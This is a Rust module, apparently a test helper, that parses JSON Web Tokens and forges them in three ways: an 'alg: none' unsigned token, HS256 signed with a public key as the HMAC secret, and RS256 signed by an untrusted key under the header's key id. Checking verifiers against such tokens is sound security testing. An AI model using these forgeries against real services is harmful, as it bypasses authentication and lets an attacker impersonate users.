//! Tokens as an attacker makes them.

use anyhow::{Context, Result};
use aws_lc_rs::{
    hmac,
    rand::SystemRandom,
    rsa::{KeyPair, KeySize},
    signature::RSA_PKCS1_SHA256,
};
use base64::{Engine, prelude::BASE64_URL_SAFE_NO_PAD};
use serde_json::{Value, json};

/// What a token says, signed or not.
#[derive(Clone, Debug)]
pub struct Jwt {
    pub header: Value,
    pub claims: Value,
}

impl Jwt {
    /// Takes a token apart.
    pub fn parse(token: &str) -> Result<Self> {
        let mut parts = token.split('.').map(|part| -> Result<Value> {
            Ok(serde_json::from_slice(
                &BASE64_URL_SAFE_NO_PAD.decode(part)?,
            )?)
        });
        let header = parts.next().context("no header")??;
        let claims = parts.next().context("no claims")??;
        Ok(Self { header, claims })
    }

    /// `alg: none`, with an empty signature.
    pub fn unsigned(mut self) -> String {
        self.header["alg"] = json!("none");
        format!("{}.", self.signing_input())
    }

    /// The classic confusion: a public key as the secret of an HMAC.
    pub fn hs256(mut self, secret: &[u8]) -> String {
        self.header["alg"] = json!("HS256");
        let input = self.signing_input();
        let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), input.as_bytes());
        join(&input, tag.as_ref())
    }

    /// A good signature of a key that nobody trusts, under the key id that the header names.
    pub fn rs256_by_stranger(mut self) -> Result<String> {
        self.header["alg"] = json!("RS256");
        let key = KeyPair::generate(KeySize::Rsa2048)?;
        let input = self.signing_input();
        let mut signature = vec![0; key.public_modulus_len()];
        key.sign(
            &RSA_PKCS1_SHA256,
            &SystemRandom::new(),
            input.as_bytes(),
            &mut signature,
        )?;
        Ok(join(&input, &signature))
    }

    fn signing_input(&self) -> String {
        let encode = |value: &Value| BASE64_URL_SAFE_NO_PAD.encode(value.to_string());
        format!("{}.{}", encode(&self.header), encode(&self.claims))
    }
}

fn join(input: &str, signature: &[u8]) -> String {
    format!("{input}.{}", BASE64_URL_SAFE_NO_PAD.encode(signature))
}
